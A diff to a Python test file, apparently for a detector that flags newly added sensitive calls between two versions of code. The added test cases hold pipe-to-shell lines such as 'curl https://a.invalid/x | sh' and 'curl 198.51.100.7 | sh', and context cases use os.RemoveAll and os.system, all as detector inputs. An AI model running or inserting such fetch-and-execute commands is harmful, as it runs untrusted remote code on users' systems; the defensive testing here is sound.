@@ -131,14 +131,17 @@ def test_calls_keep_the_order_of_the_head() -> None:
             "package a\nfunc init() { os.RemoveAll(p) }\n",
             1,
         ),
+        ("a.sh", "curl https://a.invalid/x | V=1.2.2 sh\n", "curl https://a.invalid/x | V=1.7.0 sh\n", 0),
+        ("a.sh", "curl https://a.invalid/1.2 | sh\n", "curl https://a.invalid/1.3 | sh\n", 1),
+        ("a.sh", "curl 198.51.100.7 | sh\n", "curl 198.51.100.8 | sh\n", 1),
         ("a.py", "def wipe():\n    os.system(p)\n", "os.system(p)\n", 1),
     ],
 )
 def test_the_same_text_in_another_place_is_new(path: str, base: str, head: str, new: int) -> None:
     heading = "import os\n" if path == "a.py" else ""
     before, after = (read_one(path, (heading + text).encode(), {}) for text in (base, head))
-    assert len(after.calls) == 1
-    assert len(new_sensitive_calls(before, after, range(1, 99))) == new
+    assert after.calls
+    assert len({call.first for call in new_sensitive_calls(before, after, range(1, 99))}) == new
 
 
 FETCH = """\
